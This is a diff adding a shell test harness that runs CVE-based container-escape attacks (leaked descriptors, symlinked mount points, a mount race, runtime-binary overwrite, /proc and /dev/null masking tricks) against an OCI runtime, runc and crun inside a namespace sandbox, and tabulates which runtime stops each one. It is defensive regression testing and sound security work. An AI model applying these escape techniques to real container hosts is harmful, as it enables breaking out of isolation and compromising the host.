@@ -1,0 +1,358 @@
+#!/bin/sh
+# The attack table of OCI runtimes: an image, or a program in a container,
+# against this runtime, and against runc and crun where they are installed.
+#
+#   tests/attacks/oci/run.sh [BIN [ATTACKS [MARKDOWN]]]
+#
+# Each attack is a function: it sets a trap in the image or the container, has
+# the runtime run it, and looks whether the stand-in for the host was reached.
+# That is a directory and a /dev of their own, on a host made of namespaces:
+# nothing here can change the machine.  Only a success in our own column is a
+# failure.  With MARKDOWN the table is written to that file as well.
+set -u
+cd "$(dirname "$0")/../../.." || exit 1
+bin=$(realpath "${1-bin}")
+attacks=$(realpath "${2-build/tests/attacks}")
+markdown=${3-}
+
+if [ "$(id -u)" != 0 ]; then
+    echo "tests/attacks/oci/run.sh: run as root (sudo)" >&2
+    exit 1
+fi
+if [ -z "${ATTACK_HOST-}" ]; then
+    export ATTACK_HOST=1
+    exec unshare --mount --uts --ipc --net --pid --fork --kill-child --mount-proc \
+        --propagation private "$0" "$bin" "$attacks" "$markdown"
+fi
+
+# --- the host: what an attack may reach is all made here ---------------------
+
+mount -t tmpfs -o mode=755 tmpfs /run
+work=/run/attacks image=/run/attacks/image bundle=/run/attacks/bundle
+host=$work/host
+id=attack-$(readlink /proc/self/ns/mnt | tr -dc 0-9) # its groups are the machine's
+mkdir -p $work/programs $work/dev $host $bundle $work/states $work/shared
+mount -t tmpfs -o mode=755 tmpfs $work/programs # another file system than the image
+mount -t tmpfs -o mode=755 tmpfs $work/dev
+for device in null:1:3 zero:1:5 full:1:7 random:1:8 urandom:1:9 tty:5:0; do
+    name=${device%%:*} number=${device#*:}
+    mknod -m 666 "$work/dev/$name" c "${number%:*}" "${number#*:}"
+done
+mkdir $work/dev/pts $work/dev/shm
+mount -t devpts -o newinstance,ptmxmode=666 devpts $work/dev/pts
+ln -s pts/ptmx $work/dev/ptmx
+ln -s /proc/self/fd $work/dev/fd
+mount --move $work/dev /dev
+# crun wants one of the two kinds of groups, this machine may have both.
+if [ "$(stat -fc %T /sys/fs/cgroup)" != cgroup2fs ]; then
+    mount -t cgroup2 cgroup2 /sys/fs/cgroup
+fi
+
+# --- one container ------------------------------------------------------------
+
+# runtime WORD...: the runtime under test; what it says goes to the log.
+runtime() {
+    "$program" --root "$work/states" "$@"
+}
+
+# config SCRIPT [PROCESS [MOUNTS [LINUX [TOP]]]]: what config.json has besides.
+# Without a mount on /dev the image's own is used, with what is in it.
+config() {
+    mounts='{"destination": "/proc", "type": "proc", "source": "proc"}'
+    cat > $bundle/config.json << END
+{"ociVersion": "1.0.2",
+ "process": {"args": ["/bin/sh", "-c", "$1"], "env": ["PATH=/bin"],
+    "user": {"uid": 0, "gid": 0}${2:-, \"cwd\": \"/\"}},
+ "root": {"path": "$image"},
+ "mounts": [${proc-$mounts}${3:-}],
+ "linux": {"namespaces": [{"type": "pid"}, {"type": "mount"}, {"type": "uts"},
+    {"type": "ipc"}, {"type": "network"}]${4:-}}${5:-}}
+END
+}
+
+dev=', {"destination": "/dev", "type": "tmpfs", "source": "tmpfs", "options": ["mode=755"]}'
+caps() {
+    printf ', "cwd": "/", "capabilities": {"bounding": [%s], "permitted": [%s], "effective": [%s]}' \
+        "$1" "$1" "$1"
+}
+
+# run: the container, with a limit of time: an attack may be to hold it up.
+run() {
+    timeout -k 1 20 "$program" --root $work/states run -b $bundle "$id"
+}
+
+# A new image, and a new stand-in for the host.
+prepare() {
+    rm -rf $image $host $work/shared $work/states/*
+    mkdir -p $image $host $work/shared
+    cp -a build/rootfs/. $image
+    mkdir -p $image/attacks $image/proc $image/dev $image/sys
+    cp "$attacks"/oci/* "$attacks/keyring" $image/attacks
+    echo 'the secret of the host' > $host/secret
+    chmod 666 /dev/null
+    unset proc
+}
+
+# with_exec WATCHER: a program inside watches for 30 processes that come in.
+with_exec() {
+    config "$1 > /attacks/out 2>&1; echo \$? > /attacks/status" "$(caps "${2-}")" "$dev"
+    run &
+    until grep -q ready $image/attacks/out 2> /dev/null || ! kill -0 $!; do :; done
+    for _ in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15; do
+        timeout 20 "$program" --root $work/states exec "$id" /bin/true
+    done
+    touch $image/attacks/end
+    wait $!
+    cat $image/attacks/out
+    [ "$(cat $image/attacks/status)" = 0 ]
+}
+
+# --- the attacks: 0 is a success, 77 cannot be tried -----------------------------
+
+# shellcheck disable=SC2016 # the shell inside expands it
+attack_leaked_directory() { # a directory of the host that the caller left open
+    config 'for fd in 3 4 5 6 7 8 9; do cat /proc/self/fd/$fd/secret; done' '' "$dev"
+    run 9< $host | grep 'secret of the host'
+}
+
+attack_cwd_descriptor() { # process.cwd is a link to a descriptor of the runtime
+    for fd in 3 4 5 6 7 8 9; do
+        config "cat secret ../../../$host/secret" ", \"cwd\": \"/proc/self/fd/$fd\"" "$dev"
+        run 9< $host | grep 'secret of the host' && return 0
+    done
+    return 1
+}
+
+attack_mount_link() { # the mount point is a link out of the image
+    ln -s ../../../../../../../../$host $image/data
+    config 'touch /data/owned' '' "$dev, {\"destination\": \"/data/new\", \"type\": \"tmpfs\", \"source\": \"tmpfs\"}"
+    run
+    [ -e $host/owned ] || [ -e $host/new ]
+}
+
+attack_mount_race() { # it becomes one while the runtime looks
+    mkdir -p $work/shared/place
+    ln -s / $work/shared/other
+    config 'cat /run/attacks/host/secret' '' "$dev
+        , {\"destination\": \"/vol\", \"type\": \"bind\", \"source\": \"$work/shared\", \"options\": [\"rbind\"]}
+        , {\"destination\": \"/vol/place\", \"type\": \"bind\", \"source\": \"/\", \"options\": [\"rbind\", \"ro\"]}"
+    # The engine bound a directory of ours; here / stands for its source.
+    sed -i "s|\"source\": \"/\"|\"source\": \"$work/bundle\"|" $bundle/config.json
+    "$attacks/oci/swap" $work/shared/place $work/shared/other &
+    swap=$!
+    status=1
+    for _ in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do
+        run > $work/out
+        grep -q 'secret of the host' $work/out && status=0
+        [ -z "$(find / -xdev -maxdepth 1 -name config.json)" ] || status=0
+    done
+    kill $swap
+    wait $swap
+    return $status
+}
+
+attack_mount_root() { # it leads to the root itself, which is then below it
+    ln -s / $image/data
+    config "cat $host/secret /proc/1/root/$host/secret" '' "$dev, {\"destination\": \"/data\", \"type\": \"tmpfs\", \"source\": \"tmpfs\"}"
+    run | grep 'secret of the host'
+}
+
+attack_proc_link() { # /proc is a link: its masked paths are looked for elsewhere
+    rmdir $image/proc
+    mkdir $image/fake
+    ln -s fake $image/proc
+    config 'rm /proc; mkdir /proc; cat /fake/version' '' "$dev" ', "maskedPaths": ["/proc/version"]'
+    run | grep Linux
+}
+
+attack_proc_volume() { # a volume on /proc: the image tells what the kernel says
+    proc='{"destination": "/proc", "type": "bind", "source": "'$work/shared'", "options": ["rbind"]}'
+    echo 'not the kernel' > $work/shared/version
+    config 'cat /proc/version' '' "$dev"
+    run | grep 'not the kernel'
+}
+
+attack_proc_file() { # a volume that a link in the image leads over a file of /proc
+    ln -s /proc/self/attr $image/data
+    echo 'not the kernel' > $work/shared/current
+    config 'cat /proc/1/attr/current' '' "$dev, {\"destination\": \"/data\", \"type\": \"bind\", \"source\": \"$work/shared\", \"options\": [\"rbind\"]}"
+    run | grep 'not the kernel'
+}
+
+attack_mask_null() { # paths are masked with the /dev/null of the image
+    ln -s /proc/sys/kernel/hostname $image/dev/null
+    config 'echo owned > /proc/keys; hostname' '' '' \
+        ', "maskedPaths": ["/proc/keys"], "readonlyPaths": ["/proc/sys"]'
+    run | grep owned
+}
+
+attack_null_mode() { # the file that masks is the host's: change its mode
+    config 'chmod 600 /proc/keys; chmod 600 /dev/null' "$(caps '"CAP_FOWNER"')" "$dev" ', "maskedPaths": ["/proc/keys"]'
+    run
+    [ "$(stat -c %a /dev/null)" != 666 ]
+}
+
+attack_console_link() { # /dev/console is a link out of the image
+    command -v script || return 77
+    ln -s $host/console $image/dev/console
+    config 'echo owned > /dev/console' ', "cwd": "/", "terminal": true' \
+        ', {"destination": "/dev/pts", "type": "devpts", "source": "devpts", "options": ["newinstance", "ptmxmode=0666"]}'
+    timeout 20 script -qec "$program --root $work/states run -b $bundle $id" /dev/null
+    [ -e $host/console ]
+}
+
+attack_device_link() { # /dev is a link to a volume: devices are made in it
+    rmdir $image/dev
+    ln -s /data $image/dev
+    config true '' ", {\"destination\": \"/data\", \"type\": \"bind\", \"source\": \"$host\", \"options\": [\"rbind\"]}" \
+        ', "devices": [{"path": "/dev/disk", "type": "b", "major": 259, "minor": 0}]'
+    run
+    [ -e $host/disk ] || [ -e $host/null ]
+}
+
+attack_passwd_pipe() { # a pipe as /etc/passwd: the runtime waits for it
+    rm -f $image/etc/passwd
+    mkfifo $image/etc/passwd
+    config true '' "$dev"
+    timeout -k 1 5 "$program" --root $work/states run -b $bundle "$id"
+    case $? in
+    124 | 137) return 0 ;; # its time was up
+    *) return 1 ;;
+    esac
+}
+
+attack_hook_rights() { # the image has a program of its own where a hook is
+    mkdir -p $image/hook
+    printf '#!/bin/sh\nmknod /hook/disk b 259 0\n' > $image/hook/program
+    chmod +x $image/hook/program
+    config true "$(caps '')" "$dev" '' ', "hooks": {"startContainer": [{"path": "/hook/program"}]}'
+    run
+    [ -e $image/hook/disk ]
+}
+
+attack_exec_overwrite() { # write to the runtime's own file
+    with_exec "/attacks/overwrite /attacks/end" \
+        '"CAP_SYS_ADMIN", "CAP_SYS_PTRACE", "CAP_DAC_OVERRIDE"'
+    grep -q owned "$program"
+}
+
+attack_exec_peek() { # look into the runtime while it comes in
+    with_exec "/attacks/peek $host/secret /attacks/end" \
+        '"CAP_DAC_OVERRIDE", "CAP_SYS_CHROOT"'
+}
+
+attack_exec_inheritable() { # exec gives capabilities that an exec passes on
+    config 'echo ready; cat' "$(caps '')" "$dev"
+    mkfifo $work/input
+    run < $work/input > $work/out &
+    exec 3> $work/input
+    until grep -q ready $work/out || ! kill -0 $!; do :; done
+    runtime exec --cap CAP_NET_RAW "$id" grep CapInh /proc/self/status > $work/caps
+    exec 3>&-
+    wait $!
+    rm $work/input
+    cat $work/caps
+    grep CapInh $work/caps | grep -v '0000000000000000'
+}
+
+attack_groups() { # the groups of the caller
+    command -v setpriv || return 77
+    config 'id -G' '' "$dev"
+    setpriv --groups 4444 "$program" --root $work/states run -b $bundle "$id" | grep 4444
+}
+
+# --- the table ---------------------------------------------------------------------
+
+table=$work/table passed=0 failed=0 skipped=0 holes=
+columns='10-full-container runc crun'
+available=
+: > $table
+
+# A copy: the attacks aim at it.  And does it run anything at all here?
+try_runtime() {
+    program=$work/programs/$1
+    cp "$(PATH=$bin:$PATH:/usr/sbin:/sbin command -v "$1")" "$program" 2> /dev/null || return 1
+    prepare
+    config 'echo it runs' '' "$dev"
+    run 2> $work/log | grep -q 'it runs' && return 0
+    echo "$1 does not run here: $(cat $work/log)"
+    return 1
+}
+
+for column in $columns; do
+    if try_runtime "$column"; then
+        available="$available $column"
+    elif [ "$column" = 10-full-container ]; then
+        echo "0 passed, 1 failed, 0 skipped"
+        exit 1
+    fi
+done
+
+version() {
+    case " $available " in
+    *" $1 "*) "$work/programs/$1" --version | head -n 1 | sed 's/ version / /; s/.*10-full-container/this runtime/' ;;
+    *) echo "$1: not installed" ;;
+    esac
+}
+
+# row NAME CVE IDEA
+row() {
+    line="| $3 | $2 |"
+    for column in $columns; do
+        result=-
+        case " $available " in
+        *" $column "*)
+            program=$work/programs/$column
+            prepare
+            "attack_$1" > $work/log 2>&1 < /dev/null
+            case $? in
+            0) result='**succeeds**' ;;
+            77) result='not tried' ;;
+            *) result=stopped ;;
+            esac
+            [ -z "${ATTACK_LOG-}" ] || sed "s/^/    $1 $column: /" $work/log
+            timeout 20 "$program" --root $work/states delete -f "$id" > $work/log 2>&1
+            cp "$(PATH=$bin:$PATH:/usr/sbin:/sbin command -v "$column")" "$program"
+            ;;
+        esac
+        line="$line $result |"
+        [ "$column" = 10-full-container ] || continue
+        case $result in
+        stopped) passed=$((passed + 1)) ;;
+        *succeeds*) failed=$((failed + 1)) holes="$holes $1" ;;
+        *) skipped=$((skipped + 1)) ;;
+        esac
+    done
+    echo "$line" | tee -a $table
+}
+
+{
+    echo "| attack | known from | $(version 10-full-container) | $(version runc) | $(version crun) |"
+    echo "| --- | --- | --- | --- | --- |"
+} | tee $table
+row leaked_directory CVE-2024-21626 "read the host by a directory the caller left open"
+row cwd_descriptor CVE-2024-21626 "start in a directory of the host: \`cwd\` is a link in /proc"
+row mount_link CVE-2017-1002101 "a mount point that is a link out of the image"
+row mount_race CVE-2021-30465 "a mount point that becomes a link while the runtime looks"
+row mount_root CVE-2021-30465 "a mount over the root itself"
+row proc_link CVE-2023-27561 "/proc is a link, so that masked paths are elsewhere"
+row proc_volume CVE-2019-16884 "a volume in the place of /proc"
+row proc_file CVE-2025-52881 "a link leads a volume over files of /proc"
+row mask_null CVE-2025-31133 "masked with the image's /dev/null, which is a link"
+row null_mode CVE-2025-31133 "change the host's /dev/null by a masked path"
+row console_link CVE-2025-52565 "/dev/console is a link out of the image"
+row device_link CVE-2025-52565 "/dev is a link to a volume of the host: devices in it"
+row passwd_pipe - "/etc/passwd is a pipe: hold the runtime up"
+row hook_rights - "a program of the image as a startContainer hook: all capabilities"
+row exec_overwrite CVE-2019-5736 "write to the runtime's own program file"
+row exec_peek CVE-2016-9962 "look into the runtime while it comes in"
+row exec_inheritable CVE-2022-29162 "inheritable capabilities from \`exec --cap\`"
+row groups CVE-2022-2995 "keep the caller's groups"
+
+[ -z "$holes" ] || echo "holes:$holes"
+if [ -n "$markdown" ]; then
+    sed '/^<!-- table -->$/,$d' "$markdown" > $work/page
+    { cat $work/page; echo '<!-- table -->'; cat $table; } > "$markdown"
+fi
+echo "$passed passed, $failed failed, $skipped skipped"
+[ $failed = 0 ]
